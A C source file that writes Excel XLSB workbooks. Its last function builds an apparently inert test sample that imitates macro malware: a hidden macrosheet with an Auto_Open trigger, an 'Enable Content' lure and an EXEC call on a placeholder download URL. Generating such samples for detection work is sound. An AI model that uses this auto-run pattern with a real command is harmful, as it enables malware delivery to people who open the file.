#include "make/xlsb.h"

#include "base/text.h"
#include "make/ooxml.h"

#define PART_MOST (4u << 20)

static sk_buf scratch(sk_arena *a) { return sk_buf_new(a, PART_MOST); }

static void put_record(sk_buf *b, unsigned id, const sk_buf *data)
{
    size_t len = data ? data->len : 0;
    if (id < 0x80) {
        make_u8(b, id);
    } else {
        make_u8(b, (id & 0x7F) | 0x80);
        make_u8(b, id >> 7);
    }
    do {
        make_u8(b, (unsigned)(len & 0x7F) | (len > 0x7F ? 0x80u : 0));
        len >>= 7;
    } while (len > 0);
    if (data) sk_buf_bytes(b, sk_buf_view(data));
}

static void put_string(sk_buf *b, const char *text)
{
    size_t at = b->len;
    make_u32(b, 0);
    make_utf16(b, text);
    make_patch_u32(b, at, (uint32_t)((b->len - at - 4) / 2));
}

static void put_formula(sk_buf *b, sk_bytes tokens)
{
    make_u32(b, (uint32_t)tokens.len);
    sk_buf_bytes(b, tokens);
    make_u32(b, 0);
}

static void put_name(sk_arena *a, sk_buf *b, const make_xls_name *n)
{
    sk_buf d = scratch(a);
    make_u32(&d, (n->hidden ? 1u : 0) | (n->name ? 0 : 0x20u));
    make_u8(&d, 0);
    make_u32(&d, UINT32_MAX);
    put_string(&d, n->name ? n->name : "_xlnm.Auto_Open");
    put_formula(&d, n->tokens);
    make_u32(&d, UINT32_MAX);
    put_record(b, 39, &d);
}

sk_bytes make_xlsb_workbook(sk_arena *a, const make_xls *x)
{
    sk_buf b = scratch(a), table = scratch(a);
    put_record(&b, 131, NULL);
    put_record(&b, 143, NULL);
    for (size_t i = 0; i < x->sheet_count; i++) {
        sk_buf d = scratch(a);
        make_u32(&d, x->sheets[i].state);
        make_u32(&d, (uint32_t)i + 1);
        put_string(&d, sk_text_format(a, "rId%zu", i + 1));
        put_string(&d, x->sheets[i].name);
        put_record(&b, 156, &d);
    }
    put_record(&b, 144, NULL);
    put_record(&b, 353, NULL);
    put_record(&b, 357, NULL);
    make_u32(&table, (uint32_t)x->sheet_count);
    for (uint32_t i = 0; i < x->sheet_count; i++) {
        make_u32(&table, 0);
        make_u32(&table, i);
        make_u32(&table, i);
    }
    put_record(&b, 362, &table);
    put_record(&b, 354, NULL);
    for (size_t i = 0; i < x->name_count; i++) put_name(a, &b, &x->names[i]);
    put_record(&b, 132, NULL);
    return sk_buf_view(&b);
}

static bool is_shared(const make_xls_cell *c) { return c->text && c->tokens.len == 0; }

sk_bytes make_xlsb_shared_strings(sk_arena *a, const make_xls *x)
{
    sk_buf b = scratch(a), items = scratch(a), head = scratch(a);
    uint32_t count = 0;
    for (size_t i = 0; i < x->sheet_count; i++)
        for (size_t k = 0; k < x->sheets[i].cell_count; k++) {
            if (!is_shared(&x->sheets[i].cells[k])) continue;
            sk_buf d = scratch(a);
            make_u8(&d, 0);
            put_string(&d, x->sheets[i].cells[k].text);
            put_record(&items, 19, &d);
            count++;
        }
    make_u32(&head, count);
    make_u32(&head, count);
    put_record(&b, 159, &head);
    sk_buf_bytes(&b, sk_buf_view(&items));
    put_record(&b, 160, NULL);
    return sk_buf_view(&b);
}

static void put_cell(sk_arena *a, sk_buf *b, const make_xls_cell *c, uint32_t *shared)
{
    sk_buf d = scratch(a);
    union {
        double v;
        uint64_t bits;
    } u = {.v = c->number};
    make_u32(&d, c->column);
    make_u32(&d, c->look);
    if (c->blank) {
        put_record(b, 1, &d);
        return;
    }
    if (is_shared(c)) {
        make_u32(&d, (*shared)++);
        put_record(b, 7, &d);
        return;
    }
    if (c->text)
        put_string(&d, c->text);
    else
        make_u64(&d, u.bits);
    if (c->tokens.len) {
        make_u16(&d, 0);
        put_formula(&d, c->tokens);
    }
    put_record(b, !c->tokens.len ? 5 : c->text ? 8 : 9, &d);
}

static const make_xls_row *find_row(const make_xls_sheet *s, unsigned row)
{
    for (size_t i = 0; i < s->row_count; i++)
        if (s->rows[i].row == row) return &s->rows[i];
    return NULL;
}

static void put_sizes(sk_arena *a, sk_buf *b, const make_xls_sheet *s)
{
    sk_buf usual = scratch(a);
    make_u32(&usual, UINT32_MAX);
    make_u16(&usual, 8);
    make_u16(&usual, 300);
    make_u32(&usual, 0);
    put_record(b, 485, &usual);
    for (size_t i = 0; i < s->column_count; i++) {
        sk_buf d = scratch(a);
        make_u32(&d, s->columns[i].first);
        make_u32(&d, s->columns[i].last);
        make_u32(&d, s->columns[i].width);
        make_u32(&d, 0);
        make_u16(&d, 2);
        put_record(b, 60, &d);
    }
}

sk_bytes make_xlsb_sheet(sk_arena *a, const make_xls *x, size_t index)
{
    sk_buf b = scratch(a);
    uint32_t shared = 0;
    unsigned row = UINT32_MAX;
    for (size_t i = 0; i < index; i++)
        for (size_t k = 0; k < x->sheets[i].cell_count; k++) shared += is_shared(&x->sheets[i].cells[k]);
    put_record(&b, 129, NULL);
    if (x->looks) put_sizes(a, &b, &x->sheets[index]);
    put_record(&b, 145, NULL);
    for (size_t k = 0; k < x->sheets[index].cell_count; k++) {
        const make_xls_cell *c = &x->sheets[index].cells[k];
        sk_buf d = scratch(a);
        const make_xls_row *r = find_row(&x->sheets[index], c->row);
        make_u32(&d, c->row);
        make_u32(&d, 0);
        make_u16(&d, r ? r->twips : x->looks ? 300 : 0);
        make_u8(&d, 0);
        make_u8(&d, r && r->hidden ? 0x10 : 0);
        make_zeros(&d, 5);
        if (c->row != row) put_record(&b, 0, &d);
        row = c->row;
        put_cell(a, &b, c, &shared);
    }
    put_record(&b, 146, NULL);
    put_record(&b, 130, NULL);
    return sk_buf_view(&b);
}

/* --- looks --- */

/* type (twice: bit 0 says that the bytes of the colour count), index, tint, red green blue alpha. */
static void put_colour(sk_buf *d, unsigned index)
{
    make_u8(d, index ? 2 : 0);
    make_u8(d, index ? index : 64);
    make_zeros(d, 6);
}

static void put_font(sk_arena *a, sk_buf *b, const make_xls_look *l)
{
    sk_buf d = scratch(a);
    make_u16(&d, l->twips);
    make_u16(&d, l->italic ? 2 : 0);
    make_u16(&d, l->bold ? 700 : 400);
    make_zeros(&d, 6);
    put_colour(&d, l->colour);
    make_u8(&d, 0);
    put_string(&d, l->font);
    put_record(b, 43, &d);
}

static void put_fill(sk_arena *a, sk_buf *b, unsigned colour)
{
    sk_buf d = scratch(a);
    make_u32(&d, colour ? 1 : 0);
    put_colour(&d, colour);
    put_colour(&d, 0);
    make_zeros(&d, 48);
    put_record(b, 45, &d);
}

static void put_format(sk_arena *a, sk_buf *b, unsigned number, unsigned index, unsigned horizontal)
{
    sk_buf d = scratch(a);
    make_u16(&d, 0);
    make_u16(&d, number);
    make_u16(&d, index);
    make_u16(&d, index);
    make_u16(&d, 0);
    make_u16(&d, 0);
    make_u16(&d, horizontal | 2u << 3 | 0x1000);
    make_u16(&d, 0);
    put_record(b, 47, &d);
}

sk_bytes make_xlsb_styles(sk_arena *a, const make_xls *x)
{
    sk_buf b = scratch(a);
    put_record(&b, 278, NULL);
    for (size_t i = 0; i < x->look_count; i++) {
        sk_buf d = scratch(a);
        if (!x->looks[i].number) continue;
        make_u16(&d, (unsigned)(164 + i));
        put_string(&d, x->looks[i].number);
        put_record(&b, 44, &d);
    }
    put_font(a, &b, &(make_xls_look){.font = "Calibri", .twips = 220});
    for (size_t i = 0; i < x->look_count; i++) put_font(a, &b, &x->looks[i]);
    put_fill(a, &b, 0);
    for (size_t i = 0; i < x->look_count; i++) put_fill(a, &b, x->looks[i].fill);
    put_record(&b, 626, NULL);
    put_format(a, &b, 0, 0, 0);
    put_record(&b, 627, NULL);
    put_record(&b, 617, NULL);
    put_format(a, &b, 0, 0, 0);
    for (size_t i = 0; i < x->look_count; i++)
        put_format(a, &b, x->looks[i].number ? (unsigned)(164 + i) : 0, (unsigned)i + 1, x->looks[i].horizontal);
    put_record(&b, 618, NULL);
    put_record(&b, 279, NULL);
    return sk_buf_view(&b);
}

/* --- the package --- */

#define RELATIONS "http://schemas.openxmlformats.org/package/2006/relationships"
#define OFFICE "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
#define MICROSOFT "http://schemas.microsoft.com/office/2006/relationships/"
#define TYPE "application/vnd.ms-excel."

static const char *part_name(sk_arena *a, const make_xls *x, size_t i)
{
    return sk_text_format(a, x->sheets[i].type == 1 ? "macrosheets/sheet%zu.bin" : "worksheets/sheet%zu.bin", i + 1);
}

static sk_bytes content_types(sk_arena *a, const make_xls *x)
{
    sk_buf b = scratch(a);
    sk_buf_str(&b,
               "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
               "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
               "<Override PartName=\"/xl/workbook.bin\" ContentType=\"" TYPE "sheet.binary.macroEnabled.main\"/>"
               "<Override PartName=\"/xl/sharedStrings.bin\" ContentType=\"" TYPE "sharedStrings\"/>");
    for (size_t i = 0; i < x->sheet_count; i++)
        sk_buf_format(&b, "<Override PartName=\"/xl/%s\" ContentType=\"" TYPE "%s\"/>", part_name(a, x, i),
                      x->sheets[i].type == 1 ? "macrosheet" : "worksheet");
    sk_buf_str(&b, "</Types>");
    return sk_buf_view(&b);
}

static sk_bytes workbook_relations(sk_arena *a, const make_xls *x)
{
    sk_buf b = scratch(a);
    sk_buf_str(&b, "<?xml version=\"1.0\"?><Relationships xmlns=\"" RELATIONS "\">");
    for (size_t i = 0; i < x->sheet_count; i++)
        sk_buf_format(&b, "<Relationship Id=\"rId%zu\" Type=\"%s\" Target=\"%s\"/>", i + 1,
                      x->sheets[i].type == 1 ? MICROSOFT "xlMacrosheet" : OFFICE "worksheet", part_name(a, x, i));
    sk_buf_format(&b,
                  "<Relationship Id=\"rId%zu\" Type=\"" OFFICE
                  "sharedStrings\" Target=\"sharedStrings.bin\"/>",
                  x->sheet_count + 1);
    if (x->looks)
        sk_buf_format(&b, "<Relationship Id=\"rId%zu\" Type=\"" OFFICE "styles\" Target=\"styles.bin\"/>",
                      x->sheet_count + 2);
    sk_buf_str(&b, "</Relationships>");
    return sk_buf_view(&b);
}

sk_bytes make_xlsb_file(sk_arena *a, const make_xls *x)
{
    make_part *parts = SK_NEW_ARRAY(a, make_part, x->sheet_count + 6);
    if (!parts) return (sk_bytes){NULL, 0};
    size_t n = 0;
    parts[n++] = (make_part){"[Content_Types].xml", content_types(a, x)};
    parts[n++] = (make_part){"_rels/.rels", SK_LIT("<?xml version=\"1.0\"?><Relationships xmlns=\"" RELATIONS
                                                   "\"><Relationship Id=\"rId1\" Type=\"" OFFICE
                                                   "officeDocument\" Target=\"xl/workbook.bin\"/></Relationships>")};
    parts[n++] = (make_part){"xl/workbook.bin", make_xlsb_workbook(a, x)};
    parts[n++] = (make_part){"xl/_rels/workbook.bin.rels", workbook_relations(a, x)};
    parts[n++] = (make_part){"xl/sharedStrings.bin", make_xlsb_shared_strings(a, x)};
    if (x->looks) parts[n++] = (make_part){"xl/styles.bin", make_xlsb_styles(a, x)};
    for (size_t i = 0; i < x->sheet_count; i++)
        parts[n++] = (make_part){sk_text_format(a, "xl/%s", part_name(a, x, i)), make_xlsb_sheet(a, x, i)};
    return make_package(a, parts, n);
}

sk_bytes make_xlsb_2022(sk_arena *a)
{
    make_tokens open = make_tokens_new(a, SK_PTG_BIFF12), run = open, halt = open;
    make_ptg_ref_sheet(&open, 1, 0, 0);
    make_ptg_string(&run, "no-such-program http://download.example/");
    make_ptg_ref_sheet(&run, 0, 40, 9);
    make_ptg(&run, 0x08);
    make_ptg_call(&run, "EXEC", 1);
    make_ptg_call(&halt, "HALT", 0);
    make_xls_cell lure[] = {{.row = 1, .column = 1, .text = "Enable Content to view this document."},
                            {.row = 40, .column = 9, .text = "inert.txt"}};
    make_xls_cell macro[] = {{.row = 0, .tokens = make_tokens_view(&run)},
                             {.row = 1, .tokens = make_tokens_view(&halt)}};
    make_xls_sheet sheets[] = {{.name = "Sheet1", .cells = lure, .cell_count = 2},
                               {.name = "Macro1", .type = 1, .state = 2, .cells = macro, .cell_count = 2}};
    make_xls_name names[] = {{.builtin = 1, .tokens = make_tokens_view(&open)}};
    return make_xlsb_file(a, &(make_xls){.sheets = sheets, .sheet_count = 2, .names = names, .name_count = 1});
}
